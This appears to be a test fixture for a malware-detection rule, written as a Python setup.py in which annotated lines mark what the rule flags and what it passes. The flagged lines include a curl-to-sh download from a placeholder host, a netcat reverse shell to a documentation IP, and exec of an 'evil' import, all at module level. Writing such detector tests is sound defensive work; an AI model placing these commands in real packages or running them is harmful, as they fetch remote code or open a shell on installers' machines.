import os
import subprocess
from subprocess import Popen

from setuptools import setup

# ruleid: MOAT-MAL005
os.system("curl https://example.invalid/x | sh")
# ruleid: MOAT-MAL005
subprocess.check_call(["python", "-c", "import evil"])
# ruleid: MOAT-MAL005
Popen("nc -e /bin/sh 203.0.113.9 4444", shell=True)
# ruleid: MOAT-MAL005
exec("import evil")


def build_docs():
    # ok: MOAT-MAL005
    subprocess.run(["sphinx-build", "docs", "out"])


class Helper:
    # ok: MOAT-MAL005
    value = os.path.join("a", "b")


# ok: MOAT-MAL005
here = os.path.dirname(__file__)
setup(name="demo")
